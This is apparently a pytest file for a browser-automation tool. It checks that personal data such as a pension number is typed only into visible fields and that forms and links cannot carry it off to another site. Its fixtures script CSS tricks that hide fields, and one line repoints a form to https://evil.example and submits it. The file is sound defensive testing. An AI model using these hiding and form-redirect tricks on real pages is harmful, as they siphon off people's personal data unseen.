"""The fence: an answer is typed only where a person can see it go."""

from __future__ import annotations

from collections.abc import Callable

import pytest
from playwright.sync_api import Page

from pouce.browser.stage import BrowserStage
from pouce.errors import FenceClosed, Hidden
from pouce.person import Person

Form = Callable[..., BrowserStage]
NUMBER = "<div id=round><label for=n>Numéro de pension</label><input id=n></div>"

HIDING = {
    "faint": "n.style.opacity = .05",
    "faint all round": "round.style.opacity = .5; n.style.opacity = .4",
    "faint by a filter": "n.style.filter = 'opacity(0.1)'",
    "letters that do not show": "n.style.color = 'transparent'",
    "no size": "n.style.cssText = 'width: 1px; height: 1px; padding: 0; border: 0'",
    "out of the window": "n.style.cssText = 'position: fixed; left: -500px'",
    "clipped": "round.style.cssText = 'height: 0; overflow: hidden'",
    "under what lets the mouse through": (
        "document.body.insertAdjacentHTML('beforeend',"
        " '<div style=\"position: fixed; inset: 0; background: white; pointer-events: none\"></div>')"
    ),
}


@pytest.mark.parametrize("hide", HIDING.values(), ids=HIDING)
def test_what_nobody_sees_gets_nothing(form: Form, page: Page, person: Person, hide: str) -> None:
    """A field that is hidden after it was found, in whatever way, is not typed into."""
    element = form(NUMBER).find("number")
    page.evaluate(hide)

    with pytest.raises(Hidden):
        element.type(person["pension_number"])

    assert page.locator("#n").input_value() == ""


def test_a_label_that_floats_over_its_field_is_no_cover(form: Form, person: Person) -> None:
    """Labels that lie in the field and let the mouse through belong to it."""
    label = "<label for=n style='position: absolute; background: white; pointer-events: none'>Numéro de pension</label>"
    element = form(f"{label}<input id=n style='width: 300px'>").find("number")
    element.type(person["pension_number"])

    assert element.holds(person["pension_number"])


def test_a_look_leaves_the_page_its_own_styles(form: Form, page: Page, person: Person) -> None:
    """The look lets everything take the mouse for a moment; afterwards what the page lets it pass through does again.

    Else tooltips and layers of the page that no press may reach take the presses of whatever lies under them.
    """
    element = form(f"{NUMBER}<p id=layer style='pointer-events: none'>Un calque</p>").find("number")
    styles = "[document.adoptedStyleSheets.length, getComputedStyle(layer).pointerEvents]"
    page.evaluate("document.adoptedStyleSheets.push(new CSSStyleSheet())")
    element.type(person["pension_number"])

    assert page.evaluate(styles) == [1, "none"]


def test_a_form_that_is_turned_aside_after_typing_is_held_back(form: Form, page: Page, person: Person) -> None:
    """Once something was typed, the page cannot send it anywhere else, and the run hears where it was to go."""
    stage = form(NUMBER)
    stage.find("number").type(person["pension_number"])
    page.evaluate("document.forms[0].action = 'https://evil.example/'; document.forms[0].submit()")
    heard = None
    for _ in range(50):
        heard = heard or stage.look().held_back
        stage.pause(0)

    assert (heard, page.url) == ("https://evil.example", "https://shop.example/form")


def test_a_link_to_elsewhere_is_not_pressed(form: Form, page: Page) -> None:
    """Where a link leads is read before it is pressed."""
    stage = form(f"{NUMBER}<a href='https://evil.example/'>Connecter</a>")

    with pytest.raises(FenceClosed, match=r"https://evil\.example"):
        stage.find("connect").click()

    assert page.url == "https://shop.example/form"


def test_what_is_behind_the_panels_bar_is_brought_up(form: Form, page: Page, person: Person) -> None:
    """In a narrow window the panel is a bar below the page: a place behind it is scrolled to, not called hidden."""
    element = form(f"<div style='height: 60vh'></div>{NUMBER}<div style='height: 20vh'></div>").find("number")
    page.evaluate(
        "document.documentElement.style.cssText = 'scroll-padding-bottom: 60vh; margin-bottom: 60vh';"
        "document.documentElement.style.scrollPaddingBottom = `${innerHeight * .6}px`;"
        "document.body.insertAdjacentHTML('beforeend',"
        " '<div style=\"position: fixed; inset: 40vh 0 0 0; background: white\"></div>')"
    )
    element.type(person["pension_number"])

    assert element.holds(person["pension_number"])
